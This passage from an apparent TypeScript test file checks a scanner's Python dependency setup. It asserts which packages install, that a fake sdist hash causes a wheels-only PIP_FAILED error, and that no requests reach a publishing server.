      expect(pkgs).toEqual(expect.arrayContaining(['tiny_dep.py', 'model_security_client']))
      expect(pkgs.filter((p) => p.startsWith('never_dep'))).toEqual([])
    } finally {
      await s.close!()
    }

    const src = `${text}tiny-src==1.0 --hash=sha256:${sha('not really an sdist')}\n`
    let e: unknown
    try {
      await prepareScanner(setup({ requirements: parseRequirements(src, '/ws/r.txt', VERSION) }))
    } catch (err) {
      e = err
    }
    expect((e as ScannerError).reason).toBe('PIP_FAILED')
    expect((e as ScannerError).message).toContain(
      'does not serve tiny-src, a dependency of the client, as a wheel (with scanner-requirements pip installs wheels only)'
    )
    expect(pub.requests).toEqual([])
  }, 90_000)
})
